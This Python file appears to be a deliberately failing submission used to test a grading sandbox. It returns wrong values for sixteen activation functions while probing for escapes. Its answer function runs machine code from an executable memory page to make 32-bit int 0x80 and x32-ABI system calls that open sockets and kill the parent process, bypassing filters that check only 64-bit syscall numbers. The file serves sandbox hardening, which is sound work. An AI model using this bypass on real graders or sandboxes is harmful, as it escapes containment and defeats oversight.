"""Beyond the table: system calls of another architecture.

Tries: the 32-bit calls by int 0x80 and the x32 numbers, from machine code in a writable and executable
page: a filter that looks at 64-bit numbers alone does not see them.

A sound grader: checks the architecture in its filter; a kill is the worker's death; 0 points, no marker.
"""
import os

import numpy as np


def wrong(name, z, *rest):
    """Minus seven in the right shape: nothing in this file deserves a point."""
    shape = np.shape(z)
    shape = shape[:-1] if name in ("logsumexp", "logsumexp_plus") else shape
    return np.full(shape + shape[-1:] if name == "softmax_jacobian" else shape, -7.0)


def mark(what):
    """Say on stdout and in /tmp/marks that the attack got out."""
    line = "ESCAPED other_abi: {}\n".format(what).encode("utf-8", "replace")
    try:
        os.write(1, line)
    except OSError:
        pass
    try:
        fd = os.open("/tmp/marks/other_abi", os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o666)
        os.write(fd, line)
        os.close(fd)
    except OSError:
        pass


answer = wrong  # what all sixteen functions return; the attack below puts its own in its place


def sigmoid(z): return answer("sigmoid", z)
def sigmoid_grad(z): return answer("sigmoid_grad", z)
def tanh(z): return answer("tanh", z)
def tanh_grad(z): return answer("tanh_grad", z)
def relu(z): return answer("relu", z)
def relu_grad(z): return answer("relu_grad", z)
def softplus(z): return answer("softplus", z)
def softplus_grad(z): return answer("softplus_grad", z)
def logsumexp(z): return answer("logsumexp", z)
def logsumexp_grad(z): return answer("logsumexp_grad", z)
def logsumexp_plus(z): return answer("logsumexp_plus", z)
def logsumexp_plus_grad(z): return answer("logsumexp_plus_grad", z)
def softmax(z): return answer("softmax", z)
def log_softmax(z): return answer("log_softmax", z)
def softmax_jacobian(z): return answer("softmax_jacobian", z)
def softmax_vjp(z, v): return answer("softmax_vjp", z, v)


import ctypes
import mmap
import sys

CODE = bytes([0x53, 0x89, 0xF8, 0x89, 0xF3, 0x87, 0xCA, 0xCD, 0x80, 0x5B, 0xC3])   # push rbx; eax, ebx, ecx, edx = arguments; int 0x80; pop rbx; ret


def answer(name, z, *rest):
    if sys.platform == "linux" and os.uname().machine == "x86_64":
        if name == "sigmoid":
            page = mmap.mmap(-1, 4096, prot=7)
            page.write(CODE)
            call = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
            if call(359, 2, 1, 0) >= 0:
                mark("a socket by the 32-bit call")
            if call(37, os.getppid(), 0, 0) == 0:
                mark("kill by the 32-bit call")
        if name == "tanh":
            libc = ctypes.CDLL(None, use_errno=True)
            if libc.syscall(0x40000000 | 41, 2, 1, 0) >= 0:
                mark("a socket by the x32 call")
    return wrong(name, z)
